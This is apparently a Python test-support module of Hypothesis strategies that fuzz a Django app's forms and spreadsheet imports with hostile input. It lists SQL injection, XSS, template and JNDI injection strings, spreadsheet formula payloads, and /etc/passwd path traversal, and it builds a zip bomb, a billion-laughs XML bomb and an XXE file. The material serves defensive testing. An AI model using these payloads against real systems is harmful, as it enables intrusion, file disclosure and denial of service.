"""Hypothesis strategies for fuzzing forms and imports with hostile input.

Every form field gets a mix of *plausible* values (so the form and the service behind it really
run) and *hostile* ones: empty, 10k-character strings, unicode tricks (right-to-left marks,
emoji, NUL bytes, combining marks), numbers with commas, pound signs, exponents, NaN and
Infinity, dates in many formats (impossible ones too), SQL and HTML payloads, spreadsheet
formulas, and ids that are wrong (another partnership's, huge, negative, not numbers).

Import files are CSVs with random headers, rows and encodings, and XLSX files that are real,
truncated, macro-enabled, zip bombs, XML bombs, over the size limit or over the row limit.
"""

from __future__ import annotations

import functools
import io
import re
import zipfile
from datetime import date
from html import unescape

from django.apps import apps
from django.core.exceptions import ValidationError
from django.db import connection
from hypothesis import strategies as st
from openpyxl import Workbook

MISSING = object()  # a field left out of the POST altogether

# --- Building blocks -------------------------------------------------------------------------

NASTY_CHARS = (
    "\x00", "\u202e", "\u202d", "\u200f", "\u200b", "\ufeff", "\u0301", "\u0338", "\u20dd",
    "😀", "👩‍👩‍👧", "🇬🇧", "£", "€", "ß", "İ", "ﬁ", "\u2028", "\r", "\n", "\t", "'", '"', "\\",
    "%", "_", "<", ">", "&", ";", "=", "+", "-", "@", "ｆｕｌｌｗｉｄｔｈ", "\U0010ffff",
)

PAYLOADS = (
    "", " ", "   \t  ", "\x00", "a\x00b", "0", "-0", "00", "-1", "1e9", "1E+999", "NaN", "nan",
    "Infinity", "-Infinity", "inf", "sNaN", "1,000,000", "£1,234.50", "-£5", "£-5", "(1,234.50)",
    "1.005", "0.001", "12,34x", "1_000", "٣", "１２３", "9" * 40, "-" + "9" * 40, "1e-7",
    "31/02/2025", "00/00/0000", "9999-99-99", "29/02/2023", "29/02/2024", "2025-02-30",
    "32/01/2025", "01/13/2025", "1/1/1", "01-01-0001", "31.12.9999", "1 April 2021",
    "April 2025", "Apr-25", "2025-04", "04/2025", "2025-04-01T00:00", "yesterday",
    "' OR '1'='1", "'; DROP TABLE contracts_contract; --", "1; SELECT pg_sleep(10)",
    "\" UNION SELECT password FROM commissioning_user --", "%' AND 1=1 --",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
    "{{ 7*7 }}", "{% debug %}", "${jndi:ldap://x}", "javascript:alert(1)",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil\",\"x\")", "+1+1", "@SUM(A1)", "-2+3",
    "\t=1+1", "\r=1+1", "../../etc/passwd", "C:\\Windows\\win.ini", "null", "None", "undefined",
    "true", "false", "on", "yes", "no", "[]", "{}", "\u202egnp.exe", "Z\u0351\u0352\u0353algo",
    "🙂" * 50, "\ufeffBOM", "²", "12²", "①", "١٢", "߀", "12, ³", "943 476 591⁹",
)

HUGE_INTS = ("9223372036854775807", "9223372036854775808", "99999999999999999999999999",
             "2147483648", "-2147483649", "-1", "0", "1.5", "1e3", "abc", "", " 1", "0x1F",
             "١", "\x00", "1;2", "[1]")


@functools.cache
def _long_text(size: int = 10_000):
    return st.sampled_from((*NASTY_CHARS, "a", "9", "x ")).map(lambda c: (c * size)[:size])


@functools.cache
@st.composite
def _mixed_text(draw, max_size: int = 80):
    parts = draw(st.lists(st.one_of(
        st.sampled_from(NASTY_CHARS),
        st.text(max_size=12),
        st.sampled_from(PAYLOADS),
    ), max_size=6))
    return "".join(parts)[:max_size]


@functools.cache
def hostile_text():
    """Any hostile string."""
    return st.one_of(
        st.sampled_from(PAYLOADS),
        _mixed_text(),
        _long_text(),
        st.text(max_size=40),
        st.integers(min_value=-(10 ** 30), max_value=10 ** 30).map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
    )


@functools.cache
def money_text():
    """Amount-like strings, good and bad."""
    return st.one_of(
        st.decimals(min_value=-10 ** 13, max_value=10 ** 13, places=2).map(str),
        st.integers(min_value=-10 ** 13, max_value=10 ** 13).map(lambda n: f"£{n:,}"),
        st.integers(min_value=0, max_value=10 ** 7).map(lambda n: f"{n:,}.50"),
        st.sampled_from(("0", "1", "100000", "£2,700,000.00", "-£25,000", "(1,234.50)",
                         "1.999", "NaN", "Infinity", "1e5", "£", ",,,", "-", "1,2,3")),
    )


@functools.cache
@st.composite
def date_text(draw):
    """Dates in many formats, some impossible."""
    day = draw(st.integers(min_value=0, max_value=40))
    month = draw(st.integers(min_value=0, max_value=14))
    year = draw(st.sampled_from((0, 1, 24, 99, 1900, 2020, 2024, 2025, 2026, 2030, 9999, 10000)))
    fmt = draw(st.sampled_from((
        "{d:02d}/{m:02d}/{y:04d}", "{d}/{m}/{y}", "{y:04d}-{m:02d}-{d:02d}", "{d}.{m}.{y}",
        "{d} {m} {y}", "{d}-{m}-{y}", "{m}/{d}/{y}", "{y}{m:02d}{d:02d}",
    )))
    return fmt.format(d=day, m=month, y=year)


@functools.cache
def plausible_date():
    return st.dates(min_value=date(2019, 1, 1), max_value=date(2031, 12, 31)).map(
        lambda d: d.strftime("%d/%m/%Y"))


def id_text(good_ids=(), bad_ids=()):
    """An id for a select: one that should work, another partnership's, or nonsense."""
    options = [st.sampled_from(HUGE_INTS)]
    if good_ids:
        options.insert(0, st.sampled_from([str(i) for i in good_ids]))
    if bad_ids:
        options.append(st.sampled_from([str(i) for i in bad_ids]))
    return st.one_of(*options)


def field(plausible, *, hostile=None):
    """A field's value: mostly plausible, often hostile, sometimes missing."""
    hostile = hostile if hostile is not None else hostile_text()
    return st.one_of(plausible, plausible, hostile, st.just(MISSING))


def choice(values):
    return st.sampled_from(list(values))


@functools.cache
def checkbox():
    return st.sampled_from(("on", "", "true", "false", "0", "1", "yes", "\x00", "x" * 500))


def multi(values):
    """A multi-select: a list of ids (good and bad)."""
    return st.lists(st.one_of(st.sampled_from([str(v) for v in values] or ["1"]),
                              st.sampled_from(HUGE_INTS)), max_size=4)


@st.composite
def form_data(draw, fields: dict):
    """A POST body from ``{name: strategy}``: missing fields left out, plus junk fields."""
    data = {}
    for name, strategy in fields.items():
        value = draw(strategy)
        if value is not MISSING:
            data[name] = value
    for _ in range(draw(st.integers(min_value=0, max_value=2))):
        data[draw(st.text(min_size=1, max_size=20))] = draw(hostile_text())
    return data


# --- Responses -------------------------------------------------------------------------------

_ERROR_SUMMARY = re.compile(r'class="govuk-error-summary', re.S)
_ERROR_MESSAGES = re.compile(
    r'<(?:p|span) [^>]*class="govuk-error-message"[^>]*>(.*?)</(?:p|span)>'
    r'|<ul class="govuk-list govuk-error-summary__list">(.*?)</ul>', re.S)


def has_error_summary(response) -> bool:
    return bool(_ERROR_SUMMARY.search(response.content.decode("utf-8", "replace")))


def error_text(response) -> str:
    """Text of the error summary and field errors (tags stripped)."""
    html = response.content.decode("utf-8", "replace")
    found = []
    for match in _ERROR_MESSAGES.finditer(html):
        found.append(re.sub(r"<[^>]+>", " ", match.group(1) or match.group(2) or ""))
    table = re.search(r"Problems in the file.*?</table>", html, re.S)
    if table:
        found.append(re.sub(r"<[^>]+>", " ", table.group(0)))
    return " ".join(unescape(" ".join(found)).split())


# --- Import files: CSV -----------------------------------------------------------------------

ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "latin-1", "cp1252")


@functools.cache
def cell_text():
    return st.one_of(
        st.sampled_from(PAYLOADS), _mixed_text(max_size=30), st.text(max_size=15),
        money_text(), date_text(),
    )


@st.composite
def csv_bytes(draw, header_pool: tuple[str, ...], *, good_rows=None, max_rows: int = 8):
    """A CSV file: headings drawn from the real ones and junk, rows that may be ragged, with
    quotes, NULs and huge cells, in a random encoding (with or without a BOM)."""
    headers = draw(st.lists(st.one_of(st.sampled_from(header_pool), st.text(max_size=10)),
                            max_size=10))
    rows = []
    if good_rows is not None and draw(st.booleans()):
        rows.extend(draw(good_rows))
    for _ in range(draw(st.integers(min_value=0, max_value=max_rows))):
        width = draw(st.integers(min_value=0, max_value=len(headers) + 2))
        rows.append([draw(cell_text()) for _ in range(width)])
    if rows and draw(st.integers(min_value=0, max_value=9)) == 0:
        # One huge cell (over the csv module's 128 KiB field limit).
        rows[-1] = [*rows[-1], draw(_long_text(size=140_000))]
    delimiter = draw(st.sampled_from((",", ",", ";", "\t")))
    quoting = draw(st.sampled_from(("minimal", "all", "broken")))

    def line(cells):
        if quoting == "all":
            return delimiter.join('"' + c.replace('"', '""') + '"' for c in cells)
        if quoting == "broken":
            return delimiter.join(('"' + c) if i % 2 else c for i, c in enumerate(cells))
        out = []
        for c in cells:
            if any(ch in c for ch in (delimiter, '"', "\n", "\r")):
                c = '"' + c.replace('"', '""') + '"'
            out.append(c)
        return delimiter.join(out)

    newline = draw(st.sampled_from(("\n", "\r\n", "\r")))
    text = newline.join(line([str(c) for c in r]) for r in [headers, *rows])
    encoding = draw(st.sampled_from(ENCODINGS))
    data = text.encode(encoding, errors="replace")
    if encoding == "utf-8" and draw(st.booleans()):
        data = b"\xef\xbb\xbf" + data
    return data


# --- Import files: XLSX ----------------------------------------------------------------------

def xlsx_from_rows(rows, *, title: str = "Sheet1") -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append([_xlsx_safe(v) for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _xlsx_safe(value):
    if isinstance(value, str):
        return _ILLEGAL_XML.sub("", value)[:32_000]
    return value


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
    b'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    b'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    b'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    b'Target="worksheets/sheet1.xml"/></Relationships>')


def _package(sheet_xml: bytes, *, extra: dict | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


@functools.cache
def zip_bomb() -> bytes:
    """A workbook of ~150 KB whose sheet expands to more than 100 MB."""
    head = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
            b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    size = 110 * 1024 * 1024
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(head)
            chunk = b" " * (1024 * 1024)
            for _ in range(size // len(chunk)):
                member.write(chunk)
            member.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


@functools.cache
def xml_bomb() -> bytes:
    """Billion laughs inside the sheet XML."""
    entities = b'<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10))
    sheet = (b'<?xml version="1.0"?><!DOCTYPE lolz [' + entities + b']>'
             b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
             b'</sheetData></worksheet>')
    return _package(sheet)


@functools.cache
def external_entity() -> bytes:
    """An XXE attempt: an external entity reading a local file."""
    sheet = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
             b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
             b'</sheetData></worksheet>')
    return _package(sheet)


def with_macros(xlsx: bytes) -> bytes:
    """The workbook with a vbaProject.bin added (an .xlsm in disguise or not)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info, source.read(info.filename))
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)
    return buffer.getvalue()


@functools.cache
def oversized(limit: int) -> bytes:
    """A CSV one byte over ``limit`` (the upload limit)."""
    line = b"a,b,c,d\r\n"
    return (line * (limit // len(line) + 2))[: limit + 1]


@st.composite
def xlsx_bytes(draw, rows_strategy):
    """A real workbook made with openpyxl from drawn rows."""
    rows = draw(rows_strategy)
    return xlsx_from_rows(rows)


@st.composite
def malformed_xlsx(draw, rows_strategy):
    """Broken workbooks: random bytes behind a zip header, truncated, corrupted."""
    kind = draw(st.sampled_from(("random", "truncated", "flipped", "no_workbook", "not_zip")))
    if kind == "random":
        return b"PK\x03\x04" + draw(st.binary(max_size=2000))
    real = xlsx_from_rows(draw(rows_strategy))
    # Positions are drawn as fractions: a workbook's length varies (it holds timestamps), and
    # hypothesis needs the same draws each time it replays an example.
    if kind == "truncated":
        fraction = draw(st.integers(min_value=1, max_value=999))
        return real[: max(4, len(real) * fraction // 1000)]
    if kind == "flipped":
        data = bytearray(real)
        for _ in range(draw(st.integers(min_value=1, max_value=20))):
            position = len(data) * draw(st.integers(min_value=0, max_value=999)) // 1000
            data[position] = draw(st.integers(min_value=0, max_value=255))
        return bytes(data)
    if kind == "no_workbook":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("[Content_Types].xml", CONTENT_TYPES)
            archive.writestr("hello.txt", b"hello")
        return buffer.getvalue()
    return draw(st.binary(min_size=1, max_size=500))


# --- The database before and after -----------------------------------------------------------

WATCHED_APPS = ("commissioning", "contracts", "funding", "monitoring")
# Made on demand by any page that shows a period: reference data, not something a user saves.
NOT_USER_DATA = {"monitoring.reportingperiod", "monitoring.historicalreportingperiod"}


@functools.cache
def watched_models():
    return tuple(
        m for m in apps.get_models()
        if m._meta.app_label in WATCHED_APPS and not m._meta.proxy
        and m._meta.label_lower not in NOT_USER_DATA
    )


def snapshot() -> dict:
    """{model: (row count, highest integer pk)} for every domain and history table, in one
    query."""
    qn = connection.ops.quote_name
    parts, keys = [], []
    for model in watched_models():
        table = qn(model._meta.db_table)
        parts.append(f"(SELECT COUNT(*) FROM {table})")
        pk = model._meta.pk
        if pk.get_internal_type() in ("AutoField", "BigAutoField", "IntegerField"):
            parts.append(f"(SELECT COALESCE(MAX({qn(pk.column)}), 0) FROM {table})")
        else:
            parts.append("0")
        keys.append(model)
    with connection.cursor() as cursor:
        cursor.execute("SELECT " + ", ".join(parts))
        values = cursor.fetchone()
    return {model: (values[2 * i], values[2 * i + 1]) for i, model in enumerate(keys)}


def changes(before: dict, after: dict) -> dict:
    """{model label: (count before, count after)} for the tables that changed."""
    return {m._meta.label: (before[m][0], after[m][0]) for m in before
            if before[m] != after[m]}


def check_saved_rows(before: dict, after: dict, *, skip_fields=()) -> int:
    """full_clean() every row written between the snapshots (new rows, and the current row of
    anything whose history grew). Returns how many rows were checked."""
    checked = 0
    seen = set()
    for model, (count_before, max_before) in before.items():
        count_after, max_after = after[model]
        if (count_after, max_after) == (count_before, max_before):
            continue
        history_of = getattr(model, "instance_type", None)
        if history_of is not None:  # a HistoricalX table: check the live rows it describes
            ids = set(model.objects.filter(history_id__gt=max_before)
                      .values_list("id", flat=True))
            rows = history_of._default_manager.filter(pk__in=ids)
        else:
            rows = model._default_manager.filter(pk__gt=max_before)
        for row in rows[:200]:
            key = (type(row), row.pk)
            if key in seen:
                continue
            seen.add(key)
            try:
                row.full_clean(exclude=list(skip_fields), validate_unique=True)
            except ValidationError as error:
                raise AssertionError(
                    f"{type(row).__name__} {row.pk} was saved but is not valid: "
                    f"{error.message_dict}") from None
            checked += 1
    return checked


# --- Counting what was tried (printed at the end of the session by conftest.py) --------------

TRIED = {"form_inputs": 0, "form_views": set(), "import_files": 0, "imports": set()}


def count_form(view: str) -> None:
    TRIED["form_inputs"] += 1
    TRIED["form_views"].add(view)


def count_import(name: str) -> None:
    TRIED["import_files"] += 1
    TRIED["imports"].add(name)


def summary_line() -> str | None:
    if not TRIED["form_inputs"] and not TRIED["import_files"]:
        return None
    return (f"fuzz: {TRIED['form_inputs']:,} form inputs across {len(TRIED['form_views'])} "
            f"views, {TRIED['import_files']:,} import files across {len(TRIED['imports'])} "
            "imports")
